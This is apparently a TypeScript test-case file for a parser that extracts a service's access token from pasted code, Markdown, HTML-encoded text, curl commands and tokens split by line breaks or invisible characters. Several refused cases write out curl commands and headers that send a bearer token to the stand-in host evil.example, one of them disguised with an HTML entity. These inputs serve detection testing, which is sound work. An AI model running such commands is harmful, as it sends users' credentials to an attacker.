import { type Case, refused, taken, values } from './case.ts'

const graphqlText = 'https://gazelleapp.io/graphql/private/'
const evilText = 'https://evil.example/graphql/private/'
const { TOKEN, REFRESH, KEY, JWT, LONG_TOKEN } = values
const guide = { access_token: TOKEN, refresh_token: REFRESH, expires_in: 2_592_000, created_at: 1_737_334_800 }
const json = JSON.stringify(guide)
const whole = { refreshToken: REFRESH, issuedAt: 1_737_334_800 }
const ofKey = { accessToken: KEY, headerKind: 'api-key' } as const
const unknownForm = { reason: 'unknown-form' } as const
const python = `{'access_token': '${TOKEN}', 'refresh_token': '${REFRESH}', 'expires_in': 2592000, 'created_at': 1737334800}`

/** A value that code gives a name. */
export const assignments: readonly Case[] = [
  taken('const row', 'row', `const row = ${json};`, whole),
  taken('const row, with its columns', 'row', `const row = { key: 'gazelle_oauth_token', value: ${json} }`, whole),
  taken('let x, a JSON string', 'row', `let x = '${json}'`, whole),
  taken('let x, the token', 'bare-token', `let x = '{{TOKEN}}'`),
  taken('var t, the token', 'bare-token', 'var t = "{{TOKEN}}";'),
  taken('JSON.parse', 'row', `const tokens = JSON.parse('${json}')`, whole),
  taken('json.loads', 'row', `tokens = json.loads('${json}')`, whole),
  taken('a dictionary', 'row', `token = ${python}`, whole),
  taken(
    'a dictionary over lines',
    'row',
    `gazelle_token = {\n    'access_token': '{{TOKEN}}',\n    'refresh_token': '{{REFRESH}}',\n}`,
    { refreshToken: REFRESH },
  ),
  taken('dict()', 'row', `row = dict(access_token='{{TOKEN}}', refresh_token='{{REFRESH}}')`, {
    refreshToken: REFRESH,
  }),
  taken('with a type', 'row', `export const row: TokenRow = { access_token: '{{TOKEN}}' } as const`),
  taken('with the type of a dictionary', 'row', `row: dict[str, str] = {"access_token": "{{TOKEN}}"}`),
  taken('module.exports', 'row', `module.exports = { access_token: '{{TOKEN}}' };`),
  taken('export default', 'row', `export default { access_token: '{{TOKEN}}' };`),
  taken('return', 'row', `return ${json};`, whole),
  taken('a walrus of Go', 'variable', 'token := "{{TOKEN}}"'),
  taken('a hash of Ruby', 'row', `row = { access_token: '{{TOKEN}}', "refresh_token" => "{{REFRESH}}" }`, {
    refreshToken: REFRESH,
  }),
  taken('an array of PHP', 'row', `$row = ['access_token' => '{{TOKEN}}', 'refresh_token' => '{{REFRESH}}'];`, {
    refreshToken: REFRESH,
  }),
  taken('here-string of PowerShell', 'row', `$row = @'\n${json}\n'@`, whole),
  taken('a variable of a shell', 'row', `ROW='${json}'`, whole),
  taken('a variable of .env', 'row', `GAZELLE_TOKEN='${json}'`, whole),
  taken('a list of one', 'row', `const rows = [${json}]`, whole),
  taken('localStorage', 'row', `localStorage.setItem('gazelle_oauth_token', '${json}')`, whole),
  taken('a prompt of Python', 'row', `>>> row\n${python}`, whole),
  taken('a prompt of IPython', 'row', `In [3]: row\nOut[3]: ${python}`, whole),
  taken('a prompt of Python, set', 'row', `>>> token = ${python}`, whole),
  taken('a prompt of Node', 'row', `> row\n{\n  access_token: '{{TOKEN}}',\n  refresh_token: '{{REFRESH}}'\n}`, {
    refreshToken: REFRESH,
  }),
  refused('another service’s name', unknownForm, `const quickbooks = ${json}`),
  refused('another service’s dictionary', unknownForm, `stripe_token = ${python}`),
  refused('another service’s string', unknownForm, `let mapbox = '{{TOKEN}}'`),
  refused(
    'two of them',
    { reason: 'several-tokens', form: 'row' },
    `const a = ${json};\nconst b = {"access_token": "{{REFRESH}}"};`,
  ),
  refused(
    'beside another address',
    { reason: 'other-host', form: 'row', host: 'evil.example' },
    `const url = "${evilText}"\nconst row = ${json}`,
  ),
  refused(
    'a value that is computed',
    { reason: 'placeholder', form: 'row' },
    `const row = { access_token: \`\${token}\`, refresh_token: null }`,
  ),
  refused('a secret', unknownForm, `const clientSecret = '{{TOKEN}}'`),
  refused('cut off', { reason: 'unreadable', form: 'row' }, `const row = {"access_token": "{{TOKEN}}", "refresh_`),
]

/** Text that people format. */
export const formatted: readonly Case[] = [
  taken('a bold name', 'header-line', '**Authorization:** Bearer {{TOKEN}}'),
  taken('a bold name, the colon outside', 'header-line', '**Authorization**: Bearer {{TOKEN}}'),
  taken('a bold line', 'header-line', '**Authorization: Bearer {{TOKEN}}**'),
  taken('a bold name in a list', 'header-line', '- **Host:** gazelleapp.io\n- **Authorization:** Bearer {{TOKEN}}'),
  taken('underlines', 'header-line', '__Authorization:__ Bearer {{TOKEN}}'),
  taken('an italic name', 'header-line', '*Authorization:* Bearer {{TOKEN}}'),
  taken('code in a list', 'header-line', '* `Authorization: Bearer {{TOKEN}}`'),
  taken('a name in code', 'code', '`Authorization`: `Bearer {{TOKEN}}`'),
  taken('a value in code', 'header-line', 'Authorization: `Bearer {{TOKEN}}`'),
  taken('a list', 'header-line', '- Accept: */*\n- Authorization: Bearer {{TOKEN}}'),
  taken('a numbered list', 'header-line', '1. Host: gazelleapp.io\n2. Authorization: Bearer {{TOKEN}}'),
  taken('points', 'header-line', '• x-gazelle-api-key: {{KEY}}', ofKey),
  taken('a list of one token', 'bare-token', '- {{TOKEN}}'),
  taken('a list of one token in code', 'bare-token', '* `{{TOKEN}}`'),
  taken('a bold token', 'bare-token', '**{{TOKEN}}**'),
  taken('a quotation of a bold name', 'header-line', '> **Authorization:** Bearer {{TOKEN}}'),
  taken('a quotation of a list', 'header-line', '> - Host: gazelleapp.io\n> - Authorization: Bearer {{TOKEN}}'),
  taken('a quotation of a quotation', 'bare-token', '> > {{TOKEN}}'),
  taken(
    'a table of headers',
    'header-line',
    '| Header | Value |\n|---|---|\n| Host | gazelleapp.io |\n| Authorization | Bearer {{TOKEN}} |',
  ),
  taken('a bold word', 'variable', '**Token:** `{{TOKEN}}`'),
  taken('a word in a list', 'variable', '- Token : {{TOKEN}}'),
  taken('a word of French', 'variable', 'Jeton\u00a0: {{TOKEN}}'),
  taken('a name in a list in code', 'variable', '- `GAZELLE_ACCESS_TOKEN`: `{{TOKEN}}`'),
  taken('a name in a list, bold', 'variable', '* **GAZELLE_API_KEY** = {{KEY}}', ofKey),
  taken('angle brackets', 'bare-token', '<{{TOKEN}}>'),
  taken('parentheses', 'bare-token', '({{TOKEN}})'),
  taken('underscores with a backslash', 'bare-token', () => TOKEN.replace(/[_-]/g, '\\$&')),
  taken('HTML: the row', 'row', json.replaceAll('"', '&quot;'), whole),
  taken('HTML: the row, by numbers', 'row', json.replaceAll('"', '&#34;').replaceAll('{', '&#x7B;'), whole),
  taken('HTML: a header', 'header-line', '&quot;Authorization&quot;: &quot;Bearer {{TOKEN}}&quot;'),
  taken('HTML: a header in apostrophes', 'header-line', '&#39;Authorization: Bearer {{TOKEN}}&#39;'),
  taken('HTML: a dictionary', 'row', python.replaceAll("'", '&#x27;'), whole),
  taken(
    'HTML: cURL',
    'curl-bash',
    `curl &#39;${graphqlText}?a=1&amp;b=2&#39; -H &#39;Authorization: Bearer {{TOKEN}}&#39;`,
  ),
  taken('HTML: twice', 'row', json.replaceAll('"', '&amp;quot;'), whole),
  taken('HTML: the token', 'bare-token', '&quot;{{TOKEN}}&quot;'),
  taken('HTML: angle brackets', 'bare-token', '&lt;{{TOKEN}}&gt;'),
  taken('HTML: a space', 'header-line', 'Authorization:&nbsp;Bearer&nbsp;{{TOKEN}}'),
  taken('HTML: .env', 'variable', 'GAZELLE_ACCESS_TOKEN=&quot;{{TOKEN}}&quot;'),
  refused(
    'HTML: another host',
    { reason: 'other-host', form: 'curl-bash', host: 'evil.example' },
    `curl &quot;${evilText}&quot; -H &quot;Authorization: Bearer {{TOKEN}}&quot;`,
  ),
  refused(
    'HTML: an address that turns into another',
    { reason: 'other-host', form: 'curl-bash', host: 'gazelleapp.io.evil.example' },
    `curl 'https://gazelleapp.io&#46;evil.example/' -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    'HTML: a placeholder',
    { reason: 'placeholder', form: 'row' },
    '{&quot;access_token&quot;: &quot;VOTRE_TOKEN&quot;}',
  ),
  refused(
    'a list of headers of another host',
    { reason: 'other-host', form: 'header-line', host: 'evil.example' },
    '- Host: evil.example\n- Authorization: Bearer {{TOKEN}}',
  ),
  refused('words that name another service', unknownForm, 'Stripe token: {{TOKEN}}'),
  refused('a list of two tokens', { reason: 'several-tokens', form: 'bare-token' }, '- {{TOKEN}}\n- {{REFRESH}}'),
  refused(
    'a bold name of another host',
    { reason: 'other-host', form: 'header-line', host: 'evil.example' },
    '- **Host:** evil.example\n- **Authorization:** Bearer {{TOKEN}}',
  ),
  refused('a bold word of another service', unknownForm, '**Stripe token:** `{{TOKEN}}`'),
  taken('escaped quotation marks', 'row', json.replaceAll('"', '\\"'), whole),
  taken('percent signs', 'row', encodeURIComponent(json), whole),
]

const [head, tail] = [TOKEN.slice(0, 30), TOKEN.slice(30)]
const brokenAt = (at: number, between = '\n') => `${TOKEN.slice(0, at)}${between}${TOKEN.slice(at)}`

/** A token that a terminal, an e-mail or a chat broke over lines; it is joined where there is only one way. */
export const broken: readonly Case[] = [
  taken('a JWT', 'bare-token', `${JWT.slice(0, 60)}\n${JWT.slice(60)}`, { accessToken: JWT }),
  taken('a JWT over three lines', 'bare-token', `${JWT.slice(0, 60)}\r\n${JWT.slice(60, 120)}\r\n${JWT.slice(120)}`, {
    accessToken: JWT,
  }),
  taken('64 hexadecimal digits', 'bare-token', `${LONG_TOKEN.slice(0, 40)}\n${LONG_TOKEN.slice(40)}`, {
    accessToken: LONG_TOKEN,
  }),
  taken('in JSON', 'row', `{"access_token": "${head}\n${tail}", "refresh_token": "{{REFRESH}}"}`, {
    refreshToken: REFRESH,
  }),
  taken('in JSON, twice', 'row', `{"access_token": "${head}\n${tail}", "refresh_\ntoken": "${REFRESH}"}`, {
    refreshToken: REFRESH,
  }),
  taken('in a header of a command', 'curl-bash', `curl '${graphqlText}' -H 'Authorization: Bearer ${head}\n${tail}'`),
  taken('in a quoted variable', 'variable', `GAZELLE_ACCESS_TOKEN="${head}\n${tail}"`),
  taken('in quotation marks', 'bare-token', `"${head}\n${tail}"`),
  taken('a header’s value under its name', 'header-line', `Authorization: Bearer\n${TOKEN}`),
  refused('alone', { reason: 'broken', form: 'bare-token' }, brokenAt(30)),
  refused('alone, with a space', { reason: 'broken', form: 'bare-token' }, brokenAt(30, ' ')),
  refused('alone, near its end', { reason: 'broken', form: 'bare-token' }, brokenAt(41)),
  refused('a header', { reason: 'broken', form: 'header-line' }, `Authorization: Bearer ${brokenAt(30)}`),
  refused(
    'a header within others',
    { reason: 'broken', form: 'header-line' },
    `Host: gazelleapp.io\nAuthorization: Bearer ${brokenAt(25)}\nAccept: */*`,
  ),
  refused(
    'a header with an indent',
    { reason: 'broken', form: 'header-line' },
    `Authorization: Bearer ${brokenAt(30, '\n  ')}`,
  ),
  refused('the scheme and the token', { reason: 'broken', form: 'header-line' }, `Bearer ${brokenAt(30)}`),
  refused('a variable', { reason: 'broken', form: 'variable' }, `GAZELLE_ACCESS_TOKEN=${brokenAt(30)}`),
  refused(
    'a hyphen that may be the e-mail’s',
    { reason: 'broken', form: 'row' },
    `{"access_token": "${head}-\n${tail}"}`,
  ),
  refused('an equals sign of an e-mail', { reason: 'broken', form: 'row' }, `{"access_token": "${head}=\n${tail}"}`),
  refused('a quotation mark of an answer', { reason: 'broken', form: 'row' }, `{"access_token": "${head}\n> ${tail}"}`),
  taken('a header and others under their names', 'header-line', 'authorization\nBearer {{TOKEN}}\naccept\n*/*'),
  taken('a header and another header', 'header-line', 'Authorization: Bearer {{TOKEN}}\nAccept: */*'),
  taken('a variable and another', 'variable', 'GAZELLE_ACCESS_TOKEN={{TOKEN}}\nA=b'),
  taken('a variable and a comment', 'variable', 'GAZELLE_ACCESS_TOKEN={{TOKEN}}\n# end'),
]

const within = (mark: string) => `${TOKEN.slice(0, 20)}${mark}${TOKEN.slice(20)}`

/** Characters that nobody sees, within a token. */
export const unseen: readonly Case[] = [
  taken('a soft hyphen', 'bare-token', within('\u00ad')),
  taken('a zero-width non-joiner', 'bare-token', within('\u200c')),
  taken('a word joiner', 'bare-token', within('\u2060')),
  taken('a byte-order mark', 'bare-token', within('\ufeff')),
  taken('a variation selector', 'bare-token', within('\ufe0f')),
  taken('a grapheme joiner', 'bare-token', within('\u034f')),
  taken('a filler of Hangul', 'bare-token', within('\u3164')),
  taken('a mark of a tag', 'bare-token', within('\u{e0001}')),
  taken('several', 'bare-token', within('\u200b\u2060\u00ad')),
  taken('a soft hyphen in JSON', 'row', `{"access_token": "${within('\u00ad')}"}`),
  taken('a zero-width space in a header', 'header-line', `Authorization: Bearer ${within('\u200b')}`),
  taken('a zero-width space in a name', 'row', `{"access\u200b_token": "{{TOKEN}}"}`),
  taken(
    'a soft hyphen in a command',
    'curl-bash',
    `curl '${graphqlText}' -H 'Authorization: Bearer ${within('\u00ad')}'`,
  ),
  taken('a hyphen that does not break', 'bare-token', () => TOKEN.replaceAll('-', '\u2011')),
  refused('a no-break space', { reason: 'broken', form: 'bare-token' }, within('\u00a0')),
  refused(
    'a no-break space in a header',
    { reason: 'broken', form: 'header-line' },
    `Authorization: Bearer ${within('\u00a0')}`,
  ),
  refused('a no-break space in JSON', { reason: 'broken', form: 'row' }, `{"access_token": "${within('\u00a0')}"}`),
]
